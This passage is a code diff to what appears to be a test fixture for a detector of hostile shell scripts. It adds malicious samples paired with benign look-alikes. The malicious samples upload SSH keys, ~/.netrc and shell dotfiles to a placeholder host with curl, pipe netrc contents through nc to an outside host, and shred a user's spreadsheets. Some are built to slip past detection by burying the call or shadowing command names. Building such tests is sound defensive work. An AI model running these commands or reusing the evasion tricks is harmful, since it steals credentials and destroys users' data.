@@ -111,6 +111,21 @@ WAYS = {
             "index.js": f"const keys = require('./src/keys.js');\nfetch('{HOST}', {{ method: 'POST', body: keys() }});\n",
         },
     ),
+    "call after many others": (
+        {"a.sh": f'n() {{ :; }}\nput() {{ curl -F "f=@$1" {HOST}; }}\n' + "n a\n" * 300 + "put ~/.ssh/id_ed25519\n"},
+        {"a.sh": f'n() {{ :; }}\nput() {{ curl -F "f=@$1" {HOST}; }}\n' + "n ~/.ssh/id_ed25519\n" * 100 + "put a.txt\n"},
+        {"a.sh": 'log() { echo "$1"; }\n' + "log done\n" * 300 + f"curl -F f=@a.txt {HOST}\n"},
+    ),
+    "loop with more words than are tried": (
+        {"a.sh": f'for f in ~/.bashrc ~/.zshrc ~/.profile ~/.gitconfig a b ~/.netrc; do\n  curl -T "$f" {HOST}\ndone\n'},
+        {"a.sh": f'for f in ~/.bashrc ~/.zshrc ~/.profile ~/.gitconfig a b ~/.netrc; do\n  ls "$f"\ndone\ncurl -T a.txt {HOST}\n'},
+        {"a.sh": f'for f in a.txt b.txt c.txt d.txt e.txt f.txt; do\n  curl -T "$f" {HOST}\ndone\n'},
+    ),
+    "function with the name of a command": (
+        {"a.sh": "if false; then nc() { :; }; fi\nk=$(cat ~/.netrc)\nprintf '%s' \"$k\" | nc in.reedmarsh.dev 443\n"},
+        {"a.sh": f'curl() {{ command curl --retry 3 "$@"; }}\nls ~/.netrc\ncurl -T a.txt {HOST}\n'},
+        {"a.sh": f'curl() {{ command curl --retry 3 "$@"; }}\ncurl -T a.txt {HOST}\n'},
+    ),
     "files that are made unreadable for ever": (
         {"a.sh": "d=$(printf '%s' \"$HOME\")\nfind \"${d%/}\" -type f -name '*.xls*' | xargs shred -u\n"},
         {"a.sh": "d=$(printf '%s' \"$HOME\")\nfind \"${d%/}/tmp-build\" -type f -name '*.o' | xargs shred -u\n"},
